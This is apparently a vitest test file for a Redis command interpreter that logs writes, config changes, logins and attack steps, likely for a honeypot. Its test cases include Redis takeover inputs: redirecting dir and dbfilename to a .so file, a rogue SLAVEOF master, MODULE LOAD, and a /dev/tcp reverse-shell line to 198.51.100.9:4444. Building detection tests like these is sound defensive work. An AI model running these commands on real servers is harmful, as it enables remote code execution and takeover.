import { describe, expect, test } from 'vitest';
import type { Act } from '../model/act.ts';
import type { CommandOutcome } from './interpret.ts';
import { interpretCommand } from './interpret.ts';

const context = { db: 2, dir: '/var/lib/redis', dbfilename: 'dump.rdb' };
const OK: CommandOutcome = { reply: 'ok' };
const REFUSED: CommandOutcome = { reply: 'error', error: 'ERR no' };
const interpret = (words: string, outcome: CommandOutcome = OK): Act[] =>
  interpretCommand(words.split(' '), outcome, context);
const meaning = (words: string, outcome: CommandOutcome = OK): Act[] => interpret(words, outcome).slice(1);

describe('a command', () => {
  test('is told with its name in lower case, its arguments, database and reply', () => {
    expect(interpret('GET Key')).toEqual([
      { type: 'redis.command', name: 'get', args: ['Key'], db: 2, reply: 'ok' },
    ]);
    expect(interpret('Config Get Dir', REFUSED)).toEqual([
      { type: 'redis.command', name: 'config|get', args: ['Dir'], db: 2, reply: 'error', error: 'ERR no' },
    ]);
  });

  test('keeps the head, length and hash of a long argument', () => {
    const [command] = interpretCommand(['ECHO', 'x'.repeat(20_000)], OK, context);

    expect(command).toMatchObject({
      args: ['x'.repeat(16_384)],
      cut: [
        {
          index: 0,
          length: 20_000,
          sha256: '42e8bc96b8eec8c4e5d503483ba0cb843ce95243c8ca8575ffc69cd25d12c61c',
        },
      ],
    });
  });

  test('takes over what the decoder has cut', () => {
    const cut = [{ index: 2, length: 9_000_000, sha256: 'ab' }];
    const acts = interpretCommand(['SET', 'k', 'head'], OK, { ...context, cut });

    expect(acts).toMatchObject([
      { args: ['k', 'head'], cut: [{ index: 1, length: 9_000_000 }] },
      { key: 'k', value: 'head', cut: [{ index: -1, length: 9_000_000, sha256: 'ab' }] },
    ]);
  });

  test('has a name of at most 128 bytes', () => {
    expect(interpret('N'.repeat(500), REFUSED)).toMatchObject([{ name: 'n'.repeat(128) }]);
    expect(interpret(`CONFIG ${'N'.repeat(500)}`, REFUSED)[0]).toMatchObject({ type: 'redis.command' });
  });

  test('with thousands of arguments keeps the first, and of its values as many as anyone reads', () => {
    const acts = interpretCommand(['RPUSH', 'l', ...Array.from({ length: 5_000 }, () => 'x')], OK, context);

    expect(acts[0]).toMatchObject({ args: { length: 128 } });
    expect(acts.length).toBe(1 + 256);
  });
});

describe('values written', () => {
  test.for<[string, Partial<Act>[]]>([
    ['SET k v', [{ kind: 'string', key: 'k', value: 'v' }]],
    ['SET k v EX 10', [{ value: 'v', ttl: 10_000 }]],
    ['SET k v PX 10 NX', [{ value: 'v', ttl: 10 }]],
    ['SETEX k 5 v', [{ value: 'v', ttl: 5_000 }]],
    ['PSETEX k 5 v', [{ value: 'v', ttl: 5 }]],
    ['SETNX k v', [{ value: 'v' }]],
    ['GETSET k v', [{ value: 'v' }]],
    ['APPEND k v', [{ value: 'v' }]],
    ['SETRANGE k 3 v', [{ value: 'v' }]],
    [
      'MSET a 1 b 2',
      [
        { key: 'a', value: '1' },
        { key: 'b', value: '2' },
      ],
    ],
    ['MSETNX a 1', [{ key: 'a', value: '1' }]],
    ['LPUSH l x y', [{ kind: 'list', key: 'l', value: 'x' }, { value: 'y' }]],
    ['RPUSHX l x', [{ kind: 'list', value: 'x' }]],
    ['LSET l 0 x', [{ kind: 'list', value: 'x' }]],
    ['LINSERT l BEFORE p x', [{ kind: 'list', value: 'x' }]],
    ['SADD s x y', [{ kind: 'set', value: 'x' }, { value: 'y' }]],
    [
      'HSET h f 1 g 2',
      [
        { kind: 'hash', field: 'f', value: '1' },
        { field: 'g', value: '2' },
      ],
    ],
    ['HMSET h f 1', [{ kind: 'hash', field: 'f', value: '1' }]],
    ['HSETNX h f 1', [{ kind: 'hash', field: 'f', value: '1' }]],
    ['ZADD z 1 m 2 n', [{ kind: 'zset', value: 'm' }, { value: 'n' }]],
    ['ZADD z NX CH 1 m', [{ kind: 'zset', value: 'm' }]],
    ['XADD x * f v', [{ kind: 'stream', field: 'f', value: 'v' }]],
    ['XADD x MAXLEN ~ 1000 1-1 f v', [{ kind: 'stream', field: 'f', value: 'v' }]],
    ['XADD x NOMKSTREAM MINID 5 LIMIT 9 * f v', [{ kind: 'stream', field: 'f', value: 'v' }]],
    ['RESTORE k 0 payload', [{ kind: 'other', key: 'k', value: 'payload' }]],
  ])('by %s', ([words, expected]) => {
    const acts = meaning(words);

    expect(acts).toMatchObject(expected.map((act) => ({ type: 'redis.value', db: 2, ...act })));
    expect(acts.length).toBe(expected.length);
  });

  test('count although the command was refused', () => {
    expect(meaning('SET k v', REFUSED)).toMatchObject([{ type: 'redis.value', value: 'v' }]);
  });

  test('by commands without a value are none', () => {
    expect(
      ['SET k', 'MSET a', 'HSET h f', 'GET k', 'toString x', '__proto__ x y'].flatMap((one) => meaning(one)),
    ).toEqual([]);
  });
});

describe('what a command does to the server', () => {
  test.for<[string, Partial<Act>[]]>([
    ['CONFIG SET Dir /tmp', [{ type: 'redis.setting', name: 'dir', value: '/tmp', accepted: true }]],
    [
      'CONFIG SET dir /tmp dbfilename x.so',
      [
        { name: 'dir', value: '/tmp' },
        { type: 'redis.setting', name: 'dbfilename', value: 'x.so' },
      ],
    ],
    ['SAVE', [{ type: 'redis.save', command: 'save', dir: '/var/lib/redis', dbfilename: 'dump.rdb' }]],
    ['BGSAVE', [{ type: 'redis.save', command: 'bgsave' }]],
    ['SHUTDOWN SAVE', [{ type: 'redis.save', command: 'shutdown' }]],
    ['SHUTDOWN NOSAVE', []],
    ['SLAVEOF 192.0.2.1 8886', [{ type: 'redis.replica-of', host: '192.0.2.1', port: 8_886 }]],
    ['REPLICAOF no ONE', [{ type: 'redis.replica-of', host: null, port: null }]],
    ['SLAVEOF host nonsense', [{ type: 'redis.replica-of', host: 'host', port: null }]],
    ['MODULE LOAD ./x.so arg', [{ type: 'redis.module', action: 'load', path: './x.so' }]],
    ['MODULE LOADEX /x.so CONFIG a b', [{ type: 'redis.module', action: 'load', path: '/x.so' }]],
    ['MODULE UNLOAD system', [{ type: 'redis.module', action: 'unload', name: 'system' }]],
    ['system.exec id', [{ type: 'shell.command', via: 'module', line: 'id' }]],
    ['OWN.Shell id', [{ type: 'shell.command', line: 'id' }]],
    [
      'system.rev 198.51.100.9 4444',
      [{ type: 'shell.command', via: 'module', line: 'sh -i >& /dev/tcp/198.51.100.9/4444 0>&1' }],
    ],
    ['system.exec', []],
    ['json.get doc', []],
    [
      'EVAL return_1 0',
      [
        {
          type: 'redis.script',
          via: 'eval',
          body: 'return_1',
          sha1: '0e827dba1cd0b069d55dcd6e142eef60dc18bf61',
        },
      ],
    ],
    ['SCRIPT LOAD x', [{ type: 'redis.script', via: 'script-load', body: 'x' }]],
    ['FUNCTION LOAD x', [{ type: 'redis.script', via: 'function-load', body: 'x' }]],
    ['FUNCTION LOAD REPLACE x', [{ type: 'redis.script', via: 'function-load', body: 'x' }]],
    ['AUTH pw', [{ type: 'redis.login', user: 'default', password: 'pw', accepted: true }]],
    ['AUTH me pw', [{ type: 'redis.login', user: 'me', password: 'pw' }]],
    ['HELLO 3 AUTH me pw SETNAME x', [{ type: 'redis.login', user: 'me', password: 'pw' }]],
    ['HELLO 3', []],
    ['HELLO 3 AUTH me', []],
  ])('%s', ([words, expected]) => {
    const acts = meaning(words);

    expect(acts).toMatchObject(expected);
    expect(acts.length).toBe(expected.length);
  });

  test.for(['CONFIG SET dir /x', 'SAVE', 'SLAVEOF h 1', 'MODULE LOAD x', 'AUTH x'])(
    'says that it was refused: %s',
    (words) => {
      expect(meaning(words, REFUSED)).toMatchObject([{ accepted: false }]);
    },
  );
});
